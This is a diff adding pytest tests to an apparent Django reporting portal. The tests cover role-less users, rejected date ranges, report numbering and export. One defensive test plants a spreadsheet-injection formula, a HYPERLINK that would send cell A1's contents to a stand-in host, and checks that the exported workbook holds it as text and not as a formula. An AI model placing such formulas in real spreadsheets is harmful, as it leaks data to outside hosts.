@@ -164,3 +164,63 @@ def test_the_review_api(client, triangle):
     assert outsider.status_code == 400
     client.logout()
     assert client.get(url, {"unit": "99"}).status_code in (401, 403)
+
+
+def test_home_for_a_user_without_roles(client, triangle):
+    nobody = create_user("t.nobody", "x-password-1")
+    response = login(client, nobody).get(reverse("portal:home"))
+    assert response.status_code == 200
+    assert "dash" not in response.context
+
+
+@pytest.mark.parametrize(
+    "params",
+    [
+        {"start": "01/01/0001"},
+        {"end": "31/12/9999"},
+        {"start": "01/01/1950", "end": "31/12/2025"},
+        {"start": "31/12/2025", "end": "01/01/2025"},
+    ],
+)
+def test_out_of_range_periods_are_refused(client, triangle, params):
+    login(client, triangle.parent_officer)
+    response = client.get(review_url(unit="99", **params))
+    assert response.status_code == 400
+    api = client.get(
+        reverse("api-review"),
+        {"unit": "99", "from": params.get("start", ""), "to": params.get("end", "")},
+    )
+    assert api.status_code == 400
+
+
+def test_each_unit_numbers_its_own_reports(client, triangle):
+    login(client, triangle.parent_officer)
+    client.post(f"{reverse('reports:issue')}?unit=99&start=01/01/2025", {"issuer_code": "CAT"})
+    login(client, triangle.officer)
+    code = triangle.unit.code
+    client.post(f"{reverse('reports:issue')}?unit={code}&start=01/01/2025", {"issuer_code": "CAT"})
+    numbers = dict(IssuedReport.objects.values_list("unit__code", "number"))
+    assert numbers == {"99": 1, code: 1}
+
+
+def test_the_workbook_never_holds_a_formula(client, triangle):
+    import io
+
+    from openpyxl import load_workbook
+
+    formula = '=HYPERLINK("http://example.invalid/?"&A1,"Open")'
+    reported(
+        "tips.received", triangle.parent, dt.date(2021, 1, 1), dt.date(2021, 12, 31), 5, doc=formula
+    )
+    login(client, triangle.parent_officer)
+    url = reverse("reports:download", args=["xlsx"]) + "?" + review_url(unit="99").split("?")[1]
+    book = load_workbook(io.BytesIO(client.get(url).content))
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+    assert any(c.value == formula for c in cells)
+    assert not any(c.data_type == "f" for c in cells)
+
+
+def test_boundaries_below_provinces_need_a_unit(client, triangle):
+    url = reverse("api-boundaries")
+    assert client.get(url, {"level": "commune"}).status_code == 400
+    assert client.get(url, {"level": "commune", "within": "99"}).status_code == 200
